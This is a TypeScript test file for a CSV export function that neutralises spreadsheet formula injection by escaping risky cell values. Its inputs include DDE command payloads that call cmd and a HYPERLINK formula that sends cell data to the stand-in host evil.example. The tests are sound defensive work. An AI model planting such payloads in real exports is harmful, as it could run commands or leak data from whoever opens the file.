import fc from 'fast-check';
import { exportCell, exportCsv } from './export-cell';

describe('a cell of an export', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+cmd',
    "-1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\t=1+1',
    '\r=1+1',
    '\n张三',
    '=HYPERLINK("https://evil.example?"&A1,"点此")',
    '+8613800138000x',
    '-',
    '--1',
    '-1e5+A1',
  ])('%j is text', (text) => {
    expect(exportCell(text)).toBe(`'${text}`);
  });

  it.each(['', '0', '-1', '-1,234.56', '+12', '12.5%', '-0.5%', '张三', 'a=b', 'PB-2026-11-0037', '3/4', "O'Neil"])(
    '%j stays as it is',
    (text) => {
      expect(exportCell(text)).toBe(text);
    },
  );

  it('never begins with what runs, unless it is a figure', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'=+-@＝＋－＠\t\r\n 1a,.%"') }), (text) => {
        const cell = exportCell(text);
        expect(/^[-+]?[\d,.]+%?$/.test(cell) || !/^\s*[=+\-@＝＋－＠]/.test(cell)).toBe(true);
        expect(cell.endsWith(text)).toBe(true);
      }),
    );
  });

  it('stays in its own cell', () => {
    expect(exportCsv([['a,b', 'c"d', '=1\r\n+2', '张三']])).toBe('\uFEFF"a,b","c""d","\'=1\r\n+2",张三\r\n');
  });
});
